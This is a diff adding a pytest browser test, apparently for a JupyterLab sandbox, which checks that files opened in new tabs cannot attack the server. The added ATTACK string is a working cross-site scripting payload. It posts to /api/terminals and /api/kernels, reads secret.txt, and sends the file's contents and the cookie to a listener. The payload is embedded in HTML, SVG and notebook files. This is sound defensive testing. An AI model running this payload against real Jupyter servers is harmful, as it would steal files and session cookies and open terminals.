@@ -7,7 +7,9 @@ likes. What must hold is docs/threat-model.md, "The browser".
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
@@ -303,3 +305,91 @@ def test_a_question_has_the_name_of_its_sandbox(hostile: LabPage, display_name: 
     assert "\u202e" not in asked
     assert len(asked) < 4000
     execute(hostile, "assert r == 'secret'")
+
+
+# -- files, in tabs of their own and in JupyterLab -------------------------------------------------
+
+ATTACK = """
+<p>harmless</p><img src="http://127.0.0.1:%(port)d/picture">
+<script>
+  document.title = 'ran';
+  for (const path of ['/api/terminals', '/api/kernels'])
+    fetch(path, {method: 'POST', credentials: 'include', mode: 'no-cors'});
+  fetch('/api/contents/secret.txt', {credentials: 'include'}).then(answer => answer.text())
+    .then(text => fetch('http://127.0.0.1:%(port)d/' + encodeURIComponent(text)));
+  fetch('http://127.0.0.1:%(port)d/fetched', {mode: 'no-cors'});
+  try { fetch('http://127.0.0.1:%(port)d/' + document.cookie, {mode: 'no-cors'}); } catch {}
+  setTimeout(() => { location = 'http://127.0.0.1:%(port)d/moved'; }, 0);
+</script>
+"""
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[tuple[int, list[str]]]:
+    """A server on the host that is not Jupyter's; notes what it is asked for."""
+    paths: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            paths.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield server.server_port, paths
+        server.shutdown()
+        thread.join()
+
+
+def write_attacks(lab: LabPage, port: int) -> None:
+    """Write what a kernel could leave in its outputs."""
+    outputs = lab.server.folder / "outputs"
+    outputs.mkdir(exist_ok=True)
+    attack = ATTACK % {"port": port}
+    (lab.server.folder / "secret.txt").write_text("secret")
+    (outputs / "attack.html").write_text(attack)
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://127.0.0.1:{port}/css";'
+    script = attack.split("<script>")[1].split("</script>")[0]
+    (outputs / "attack.svg").write_text(f"{svg}</style><script><![CDATA[{script}]]></script></svg>")
+    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": attack}}
+    write_notebook(outputs / "attack.ipynb", KERNEL, "1")
+    document = json.loads((outputs / "attack.ipynb").read_text())
+    document["cells"][0]["outputs"] = [output]
+    (outputs / "attack.ipynb").write_text(json.dumps(document))
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        *("files/outputs/attack.html", "files/outputs/attack.svg", "view/outputs/attack.html"),
+        "nbconvert/html/outputs/attack.ipynb",
+    ],
+)
+def test_a_new_tab_is_no_door(
+    hostile: LabPage, listener: tuple[int, list[str]], place: str
+) -> None:
+    port, asked = listener
+    write_attacks(hostile, port)
+    driver = hostile.driver
+    window = driver.current_window_handle
+    terminals = hostile.server.request("GET", "api/terminals")
+    asked.clear()
+    token = driver.get_cookie("_xsrf")["value"]  # as JupyterLab's own links have it
+    driver.switch_to.new_window("tab")
+    try:
+        driver.get(f"{hostile.server.url}{place}?_xsrf={token}")
+        title = driver.execute_cdp_cmd("Target.getTargetInfo", {})["targetInfo"]["title"]
+        driver.get(f"http://127.0.0.1:{port}/done")  # whatever was asked for before has come
+    finally:
+        driver.close()
+        driver.switch_to.window(window)
+
+    assert title != "ran"
+    assert [path for path in asked if path != "/favicon.ico"] == ["/done"]
+    assert hostile.server.request("GET", "api/terminals") == terminals
